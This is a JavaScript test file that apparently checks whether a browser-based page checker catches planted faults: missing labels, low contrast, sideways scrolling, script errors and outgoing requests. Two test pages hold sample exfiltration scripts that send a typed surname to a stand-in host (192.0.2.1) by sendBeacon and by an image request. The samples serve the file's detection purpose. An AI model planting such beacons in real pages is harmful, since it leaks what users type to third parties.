// self.mjs - whether the judges notice: each page here has one fault, the last has none.
import { writeFileSync } from "node:fs";
import path from "node:path";
import { pathToFileURL } from "node:url";
import { context, faults, opened, start } from "./lib/browser.mjs";
import { start as startFirefox } from "./lib/firefox.mjs";
import { sideways, violations } from "./lib/axe.mjs";
import { done, is, ok } from "./lib/tap.mjs";

const policy = `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; script-src 'unsafe-inline'; style-src 'unsafe-inline'">`;

function bad(name, body, head = policy) {
    const file = path.join(process.env.scratch, `${name}.html`);
    writeFileSync(file, `<!doctype html><html lang="ru"><meta charset="utf-8"><title>Лист</title>${head}<main><h1>Лист</h1>${body}</main></html>`);
    return pathToFileURL(file).href;
}

const good = bad("good", `<label>Фамилия <input></label>`);
const beacon = bad("beacon", `<script>navigator.sendBeacon("http://192.0.2.1/typed", "Иванова")</script>`, "");
const refused = bad("refused", `<script>new Image().src = "http://192.0.2.1/typed"</script>`);
const thrown = bad("thrown", `<script>setTimeout(() => { throw new Error("on purpose") })</script>`);
const unlabelled = bad("unlabelled", `<input>`);
const pale = bad("pale", `<p style="color: #aaa; background: #fff">Фамилия</p>`);
const wide = bad("wide", `<p style="width: 60rem">Фамилия</p>`);

const { browser, ears } = await start();
const made = await context(browser, { viewport: { width: 320, height: 640 } });

async function looked(address) {
    ears.heard.length = 0;
    const { page, seen } = await opened(made, address);
    await page.waitForTimeout(200);
    const found = { faults: faults(seen, ears), axe: (await violations(page)).join("\n"), sideways: (await sideways(page)).join("\n") };
    await page.close();
    return found;
}

let found = await looked(good);
is(found.faults + found.axe + found.sideways, "", "Chromium: nothing is found in a good page");
found = await looked(beacon);
ok(/^request: http:\/\/192/m.test(found.faults), "Chromium: a request is seen", found.faults);
ok(/^heard: .*192\.0\.2\.1\/typed/m.test(found.faults), "Chromium: and heard by the listener", found.faults);
found = await looked(refused);
ok(/^refused by the policy: img-src/m.test(found.faults), "Chromium: what the policy refuses is seen", found.faults);
ok(!found.faults.includes("heard:"), "Chromium: and does not go out", found.faults);
ok((await looked(thrown)).faults.includes("on purpose"), "Chromium: an error of a script is seen");
ok(/^label: /.test((await looked(unlabelled)).axe), "axe: a field without a label");
ok(/^color-contrast: /.test((await looked(pale)).axe), "axe: pale words");
ok((await looked(wide)).sideways.includes("wide"), "a page that must be scrolled sideways");
await browser.close();
ears.close();

const tab = await startFirefox();
await tab.goto(good);
is((await tab.errors()).join("\n") + tab.ears.heard.join("\n"), "", "Firefox: nothing is found in a good page");
await tab.goto(beacon);
await tab.run(() => new Promise((resolve) => setTimeout(resolve, 300)));
ok(tab.ears.heard.some((one) => one.includes("192.0.2.1/typed")), "Firefox: a request is heard");
await tab.goto(refused);
ok((await tab.errors()).some((one) => one.includes("img-src")), "Firefox: what the policy refuses is seen");
await tab.goto(thrown);
ok((await tab.errors()).some((one) => one.includes("on purpose")), "Firefox: an error of a script is seen");
await tab.quit();
done();
